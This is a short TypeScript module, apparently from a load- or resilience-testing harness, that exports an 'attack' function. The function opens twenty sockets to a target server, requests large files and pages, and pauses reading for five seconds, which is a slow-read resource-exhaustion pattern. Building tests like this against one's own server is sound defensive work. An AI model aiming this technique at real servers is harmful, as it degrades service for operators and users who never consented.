import { connect } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { type Attacker, pick } from "../attacker.ts";

const LARGE = [
  "/data/latest/graph.gexf",
  "/data/latest/datapackage.zip",
  "/prison-for-words",
  "/charts/race.csv",
];

/** Twenty readers that ask for something large and take nothing of it. */
export const attack: Attacker = async (target) => {
  const { hostname, port } = new URL(target.address);
  const sockets = Array.from({ length: 20 }, () => connect(Number(port), hostname));
  for (const socket of sockets) {
    socket.on("error", () => {});
    socket.pause();
    socket.write(`GET ${pick(target, LARGE)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`);
  }
  await wait(5_000);
  for (const socket of sockets) socket.destroy();
};
